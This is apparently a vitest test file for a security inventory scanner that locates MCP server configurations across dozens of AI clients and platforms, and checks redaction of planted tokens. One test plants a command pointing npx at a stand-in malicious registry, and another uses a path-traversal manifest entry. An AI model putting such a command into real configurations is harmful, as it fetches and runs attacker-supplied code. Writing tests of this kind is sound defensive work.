// MCP servers are found in the layouts of real clients: a row per client and system.
import { describe, expect, test } from 'vitest';
import { makeFolder } from '../../../test/agent-process.ts';
import { plant, scanTree } from '../../../test/trees.ts';
import { mcpConfig } from './mcp-config.ts';

type Shape =
  | 'map'
  | 'servers'
  | 'mcp'
  | 'toml'
  | 'goose'
  | 'zed'
  | 'list'
  | 'yaml'
  | 'vibe'
  | 'amp'
  | 'powers';
interface Layout {
  client: string;
  scope?: string;
  shape?: Shape;
  linux?: string;
  darwin?: string;
  win32?: string;
  all?: string;
}

const AS = 'Library/Application Support';
const ROAMING = 'AppData/Roaming';
const code = (path: string) => ({
  linux: `.config/${path}`,
  darwin: `${AS}/${path}`,
  win32: `${ROAMING}/${path}`,
});

const LAYOUTS: readonly Layout[] = [
  { client: 'claude-desktop', ...code('Claude/claude_desktop_config.json') },
  {
    client: 'claude-desktop',
    win32:
      'AppData/Local/Packages/Claude_pzs8sxrjxfjjc/LocalCache/Roaming/Claude/claude_desktop_config.json',
  },
  { client: 'claude-code', all: '.claude.json' },
  { client: 'claude-code', scope: 'project', all: 'src/app/.mcp.json' },
  {
    client: 'claude-code',
    scope: 'plugin',
    all: '.claude/plugins/cache/market/plug/1.0.0/.mcp.json',
  },
  {
    client: 'claude-code',
    scope: 'system',
    linux: '/etc/claude-code/managed-mcp.json',
    darwin: '/Library/Application Support/ClaudeCode/managed-mcp.json',
    win32: '/Program Files/ClaudeCode/managed-mcp.json',
  },
  { client: 'claude-code', scope: 'system', win32: '/ProgramData/ClaudeCode/managed-mcp.json' },
  { client: 'cursor', all: '.cursor/mcp.json' },
  { client: 'cursor', scope: 'project', all: 'src/app/.cursor/mcp.json' },
  { client: 'vscode', shape: 'servers', ...code('Code/User/mcp.json') },
  { client: 'vscode', shape: 'servers', ...code('Code - Insiders/User/profiles/-1a2b3c/mcp.json') },
  { client: 'vscode', shape: 'servers', ...code('Code - OSS/User/mcp.json') },
  { client: 'vscodium', shape: 'servers', ...code('VSCodium - Insiders/User/mcp.json') },
  { client: 'vscode', shape: 'servers', linux: '.vscode-server/data/User/mcp.json' },
  { client: 'vscodium', shape: 'servers', linux: '.vscodium-server/data/Machine/mcp.json' },
  { client: 'cursor', shape: 'servers', linux: '.cursor-server/data/Machine/mcp.json' },
  { client: 'trae', shape: 'servers', linux: '.trae-server/data/User/mcp.json' },
  { client: 'kiro', shape: 'servers', linux: '.kiro-server/data/Machine/mcp.json' },
  {
    client: 'vscode',
    shape: 'servers',
    linux: '.var/app/com.visualstudio.code/config/Code/User/mcp.json',
  },
  { client: 'vscode', shape: 'servers', scope: 'project', all: 'src/app/.vscode/mcp.json' },
  { client: 'visual-studio', shape: 'servers', scope: 'project', win32: 'src/app/.vs/mcp.json' },
  { client: 'copilot-cli', all: '.copilot/mcp-config.json' },
  { client: 'copilot-cli', scope: 'project', all: 'src/app/.github/mcp.json' },
  {
    client: 'copilot-jetbrains',
    shape: 'servers',
    linux: '.config/github-copilot/intellij/mcp.json',
    darwin: '.config/github-copilot/intellij/mcp.json',
    win32: 'AppData/Local/github-copilot/intellij/mcp.json',
  },
  { client: 'copilot-xcode', shape: 'servers', darwin: '.config/github-copilot/xcode/mcp.json' },
  { client: 'windsurf', all: '.codeium/windsurf/mcp_config.json' },
  { client: 'windsurf', all: '.codeium/windsurf-next/mcp_config.json' },
  { client: 'windsurf', all: '.codeium/mcp_config.json' },
  { client: 'antigravity', all: '.gemini/antigravity/mcp_config.json' },
  { client: 'gemini-cli', all: '.gemini/settings.json' },
  { client: 'gemini-cli', scope: 'plugin', all: '.gemini/extensions/ext/gemini-extension.json' },
  {
    client: 'gemini-cli',
    scope: 'system',
    linux: '/etc/gemini-cli/settings.json',
    darwin: '/Library/Application Support/GeminiCli/settings.json',
    win32: '/ProgramData/gemini-cli/settings.json',
  },
  { client: 'qwen', all: '.qwen/settings.json' },
  { client: 'codex', shape: 'toml', all: '.codex/config.toml' },
  { client: 'codex', shape: 'toml', all: '.codex/work.config.toml' },
  { client: 'codex', shape: 'toml', scope: 'project', all: 'src/app/.codex/config.toml' },
  {
    client: 'codex',
    shape: 'toml',
    scope: 'system',
    linux: '/etc/codex/config.toml',
    darwin: '/etc/codex/config.toml',
    win32: '/ProgramData/OpenAI/Codex/config.toml',
  },
  {
    client: 'codex',
    shape: 'toml',
    scope: 'system',
    linux: '/etc/codex/managed_config.toml',
    darwin: '/etc/codex/managed_config.toml',
  },
  {
    client: 'zed',
    shape: 'zed',
    linux: '.config/zed/settings.json',
    darwin: '.config/zed/settings.json',
    win32: `${ROAMING}/Zed/settings.json`,
  },
  { client: 'zed', shape: 'zed', linux: '.var/app/dev.zed.Zed/config/zed/settings.json' },
  { client: 'continue', shape: 'list', all: '.continue/config.yaml' },
  { client: 'continue', shape: 'list', all: '.continue/mcpServers/demo.yaml' },
  { client: 'continue', shape: 'list', all: '.continue/assistants/own.yaml' },
  {
    client: 'cline',
    ...code('Cursor/User/globalStorage/saoudrizwan.claude-dev/settings/cline_mcp_settings.json'),
  },
  {
    client: 'cline',
    linux:
      '.vscode-server/data/User/globalStorage/saoudrizwan.claude-dev/settings/cline_mcp_settings.json',
  },
  { client: 'cline', all: '.cline/data/settings/cline_mcp_settings.json' },
  {
    client: 'roo-code',
    ...code('VSCodium/User/globalStorage/rooveterinaryinc.roo-cline/settings/mcp_settings.json'),
  },
  {
    client: 'kilo-code',
    ...code('Code/User/globalStorage/kilocode.kilo-code/settings/mcp_settings.json'),
  },
  { client: 'kilo-code', scope: 'project', all: 'src/app/.kilocode/mcp.json' },
  { client: 'kilo-code', shape: 'mcp', all: '.config/kilo/kilo.jsonc' },
  { client: 'opencode', shape: 'mcp', all: '.config/opencode/opencode.jsonc' },
  { client: 'opencode', shape: 'mcp', all: '.config/opencode/config.json' },
  {
    client: 'goose',
    shape: 'goose',
    linux: '.config/goose/config.yaml',
    darwin: '.config/goose/config.yaml',
    win32: `${ROAMING}/Block/goose/config/config.yaml`,
  },
  { client: 'kiro', all: '.kiro/settings/mcp.json' },
  { client: 'kiro', all: '.kiro/agents/own.json' },
  { client: 'kiro', scope: 'project', all: 'src/app/.kiro/agents/own.json' },
  { client: 'amazon-q', all: '.aws/amazonq/mcp.json' },
  { client: 'amazon-q', all: '.aws/amazonq/cli-agents/own.json' },
  { client: 'amazon-q', scope: 'project', all: 'src/app/.amazonq/mcp.json' },
  { client: 'lm-studio', all: '.lmstudio/mcp.json' },
  {
    client: 'crush',
    shape: 'mcp',
    linux: '.config/crush/crush.json',
    darwin: '.config/crush/crush.json',
    win32: 'AppData/Local/crush/crush.json',
  },
  { client: 'junie', all: '.junie/mcp/mcp.json' },
  { client: 'junie', scope: 'project', all: 'src/app/.junie/mcp/mcp.json' },
  { client: 'factory', all: '.factory/mcp.json' },
  { client: 'factory', scope: 'project', all: 'src/app/.factory/mcp.json' },
  { client: 'rovo-dev', all: '.rovodev/mcp.json' },
  { client: 'augment', all: '.augment/settings.json' },
  { client: 'warp', all: '.warp/.mcp.json' },
  { client: 'void', all: '.void-editor/mcp.json' },
  { client: 'trae', ...code('Trae/User/mcp.json') },
  { client: 'vibe', shape: 'vibe', all: '.vibe/config.toml' },
  { client: 'amp', shape: 'amp', all: '.config/amp/settings.json' },
  { client: 'amp', shape: 'amp', ...code('Code/User/settings.json') },
  { client: 'kiro', shape: 'powers', all: '.kiro/agents/powers.json' },
  {
    client: 'jan',
    linux: '.local/share/Jan/data/mcp_config.json',
    darwin: `${AS}/Jan/data/mcp_config.json`,
    win32: `${ROAMING}/Jan/data/mcp_config.json`,
  },
  {
    client: 'anythingllm',
    ...code('anythingllm-desktop/storage/plugins/anythingllm_mcp_servers.json'),
  },
  { client: 'boltai', darwin: '.boltai/mcp.json' },
  { client: 'librechat', shape: 'yaml', scope: 'project', all: 'src/app/librechat.yaml' },
];

/** A plug-in writes its own folder so. */
const PLUGIN_ROOT = ['$', '{CLAUDE_PLUGIN_ROOT}/.mcp.json'].join('');

const DOCUMENTS: Record<Shape, (pkg: string) => unknown> = {
  map: (pkg) => ({ mcpServers: { demo: npx(pkg) } }),
  servers: (pkg) => `// mine\n{"servers": {"demo": ${JSON.stringify(npx(pkg))},},}`,
  mcp: (pkg) => ({
    mcp: { demo: { type: 'local', command: ['npx', '-y', pkg], environment: { KEY: 'planted' } } },
  }),
  toml: (pkg) =>
    `[mcp_servers.demo]\ncommand = "npx"\nargs = ["-y", "${pkg}", "--token", "planted"]\n`,
  goose: (pkg) =>
    `extensions:\n  demo:\n    type: stdio\n    cmd: npx\n    args: [-y, ${pkg}]\n    envs: {KEY: planted}\n`,
  zed: (pkg) => ({ context_servers: { demo: { source: 'custom', ...npx(pkg) } } }),
  list: (pkg) => `name: x\nmcpServers:\n  - name: demo\n    command: npx\n    args: [-y, ${pkg}]\n`,
  vibe: (pkg) =>
    `[[mcp_servers]]\nname = "demo"\ntransport = "stdio"\ncommand = "npx"\nargs = ["-y", "${pkg}"]\n`,
  amp: (pkg) => ({ 'amp.mcpServers': { demo: npx(pkg) } }),
  powers: (pkg) => ({ mcpServers: {}, powers: { mcpServers: { demo: npx(pkg) } } }),
  yaml: (pkg) =>
    `version: 1.2.1\nmcpServers:\n  demo:\n    command: npx\n    args: [-y, ${pkg}, --token, planted]\n`,
};
const HOMES = { linux: 'home/alice', darwin: 'Users/alice', win32: 'Users/alice' };

function npx(pkg: string) {
  return { command: 'npx', args: ['-y', pkg, '--token', 'planted'], env: { KEY: 'planted' } };
}

describe('MCP servers of every client', () => {
  for (const platform of ['linux', 'darwin', 'win32'] as const) {
    test(`finds servers on ${platform}`, async () => {
      const root = makeFolder();
      const rows = LAYOUTS.flatMap((layout) => {
        const path = layout[platform] ?? layout.all;
        return path === undefined ? [] : [{ ...layout, path }];
      });
      for (const [at, { path, shape = 'map' }] of rows.entries()) {
        const full = path.startsWith('/') ? path.slice(1) : `${HOMES[platform]}/${path}`;
        plant(root, { [full]: DOCUMENTS[shape](`layout-${at}`) });
      }
      const result = await scanTree([mcpConfig], root, { platform, people: ['alice'] });
      const found = new Map(result.entities.map(({ wire }) => [wire.name, wire]));
      const labels = rows.map((row, at) => {
        const wire = found.get(`layout-${at}`);
        const details = wire?.details as { configured: { client: string; scope: string }[] };
        const place = details?.configured[0];
        const owner = wire?.instances?.[0]?.owner ?? null;
        return `${place?.client} ${place?.scope} ${owner} ${row.path}`;
      });
      expect(labels).toEqual(
        rows.map(({ client, scope = 'user', path }) => {
          return `${client} ${scope} ${scope === 'system' ? null : 'alice'} ${path}`;
        }),
      );
      expect(JSON.stringify(result)).not.toContain('planted');
    });
  }

  test('finds servers in files of a plug-in manifest once, and in no other file of the plug-in', async () => {
    const root = makeFolder();
    const plugin = 'home/alice/.claude/plugins/cache/market/plug/1.0.0';
    plant(root, {
      [`${plugin}/.claude-plugin/plugin.json`]: {
        name: 'plug',
        mcpServers: ['./servers/own.json', PLUGIN_ROOT, '../../../out.json'],
      },
      [`${plugin}/servers/own.json`]: { demo: npx('named') },
      [`${plugin}/.mcp.json`]: { mcpServers: { two: npx('usual') } },
      'home/alice/.claude/plugins/cache/out.json': { mcpServers: { three: npx('beside') } },
    });
    const result = await scanTree([mcpConfig], root, { people: ['alice'] });
    const labels = result.entities.map(({ wire }) => {
      const { configured } = wire.details as { configured: unknown[] };
      return `${wire.name} ${configured.length}`;
    });
    expect(labels.sort()).toEqual(['named 1', 'usual 1']);
  });
});

test('reports each word of a command line completely', async () => {
  const root = makeFolder();
  const command = 'npx --registry=https://evil.example/npx';
  plant(root, {
    'home/alice/.cursor/mcp.json': { mcpServers: { a: { command, args: ['-y', 'files'] } } },
  });
  const { entities } = await scanTree([mcpConfig], root, { people: ['alice'] });
  const args = ['--registry=https://evil.example/npx', '-y', 'files'];
  expect(entities.map((entity) => entity.wire.details)).toMatchObject([
    { configured: [{ command: 'npx', args }] },
  ]);
});
